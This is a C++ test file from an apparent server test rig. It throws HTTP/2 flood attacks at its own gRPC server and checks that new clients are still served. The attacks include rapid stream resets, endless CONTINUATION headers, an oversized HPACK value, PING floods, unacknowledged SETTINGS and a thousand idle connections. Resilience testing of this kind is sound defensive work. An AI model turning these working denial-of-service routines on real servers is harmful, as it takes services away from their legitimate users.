// SPDX-License-Identifier: BSD-3-Clause
#include "tests/rig/attacks/floods.h"

#include <grpcpp/create_channel.h>

#include <chrono>
#include <cstdio>
#include <functional>
#include <memory>
#include <string>
#include <vector>

#include "server/net/frame_reader.h"
#include "tests/rig/server_under_test.h"
#include "tests/unit/server/http/http_client.h"
#include "tests/unit/server/net/http2_bytes.h"

namespace dhpmap::rig {
namespace {

using namespace net::frame_flags;
using Clock = std::chrono::steady_clock;
using FloodFrame = net::FrameType;
using testing::FrameBytes;

constexpr std::chrono::seconds kAttack{5};
constexpr std::chrono::seconds kToConnect{5};

int PortOf(const Target& target) { return std::stoi(target.grpc_address.substr(target.grpc_address.rfind(':') + 1)); }

std::string Call(std::uint32_t stream) {
  return FrameBytes(FloodFrame::kHeaders, kEndHeaders, stream, testing::CallFields("/dhpmap.v1.MapService/ListMaps"));
}

const std::string kSettingsFrame = FrameBytes(FloodFrame::kSettings, 0, 0);
const std::string kAcknowledgement = FrameBytes(FloodFrame::kSettings, kAck, 0);

/// A robot that connects while it goes on is served.
bool IsNewClientServed(const Target& target) {
  grpc::ChannelArguments own;
  own.SetInt(GRPC_ARG_USE_LOCAL_SUBCHANNEL_POOL, 1);
  const auto channel = grpc::CreateCustomChannel(target.grpc_address, grpc::InsecureChannelCredentials(), own);
  const auto began = Clock::now();
  const bool is_served = channel->WaitForConnected(std::chrono::system_clock::now() + kToConnect);
  const std::chrono::duration<double, std::milli> took = Clock::now() - began;
  std::printf("        a new client %s after %.0f ms\n", is_served ? "was served" : "was NOT served", took.count());
  return Expect("new clients locked out", is_served ? 0 : 1, 0, "");
}

/// Sends `more(i)` until the server hangs up, again and again; half-way a client comes.
bool Attack(const Target& target, const std::string& first, const std::function<std::string(int)>& more) {
  const auto begin = Clock::now();
  std::size_t num_bytes = 0;
  int num_connections = 0;
  bool is_served = true, has_come = false;
  while (Clock::now() < begin + kAttack) {
    http::HttpClient attacker(PortOf(target));
    ++num_connections;
    bool goes_on = attacker.SendRaw(std::string(net::kHttp2Preface) + first);
    for (int i = 0; goes_on && Clock::now() < begin + kAttack; ++i) {
      const std::string part = more(i);
      if (part.empty()) break;
      goes_on = attacker.SendRaw(part);
      if (goes_on) num_bytes += part.size();
    }
    if (!has_come && Clock::now() > begin + kAttack / 2) {
      has_come = true;
      is_served = IsNewClientServed(target);
    }
  }
  std::printf("        %d connections took %zu KiB\n", num_connections, num_bytes >> 10);
  return is_served;
}

}  // namespace

bool ResetRapidly(const Target& target) {
  return Attack(target, kSettingsFrame + kAcknowledgement, [](int i) {
    std::string part;
    for (int call = 0; call < 100; ++call) {
      const auto stream = static_cast<std::uint32_t>(2 * (100 * i + call) + 1);
      part += Call(stream) + FrameBytes(FloodFrame::kReset, 0, stream, testing::BigEndianBytes(8, 4));
    }
    return part;
  });
}

bool LeaveSettingsUnacknowledged(const Target& target) {
  return Attack(target, kSettingsFrame, [](int i) {
    std::string part;
    for (int call = 0; i < 400 && call < 100; ++call)
      part += Call(static_cast<std::uint32_t>(2 * (100 * i + call) + 1));
    return part;
  });
}

bool ContinueHeadersForever(const Target& target) {
  std::string fields;
  while (fields.size() < 16'000) fields += testing::LiteralField("x-a", std::string(100, 'y'));
  const std::string part = FrameBytes(FloodFrame::kContinuation, 0, 1, fields);
  return Attack(target, kSettingsFrame + kAcknowledgement + FrameBytes(FloodFrame::kHeaders, 0, 1, "\x82"),
                [&part](int) { return part; });
}

bool DeclareHugeValue(const Target& target) {
  const std::string beginning = "\x40\x03x-a\x7f\x81\xff\xff\xff\x07";
  const std::string part = FrameBytes(FloodFrame::kContinuation, 0, 1, std::string(16'384, 'y'));
  return Attack(target, kSettingsFrame + kAcknowledgement + FrameBytes(FloodFrame::kHeaders, 0, 1, beginning),
                [&part](int) { return part; });
}

bool PingForever(const Target& target) {
  std::string part;
  for (int i = 0; i < 500; ++i) part += FrameBytes(FloodFrame::kPing, kAck, 0, "12345678") + kSettingsFrame;
  return Attack(target, kSettingsFrame + kAcknowledgement, [&part](int) { return part; });
}

bool ConnectSilently(const Target& target) {
  std::vector<std::unique_ptr<http::HttpClient>> silent;
  for (int i = 0; i < 1000; ++i) silent.push_back(std::make_unique<http::HttpClient>(PortOf(target)));
  return IsNewClientServed(target);
}

}  // namespace dhpmap::rig
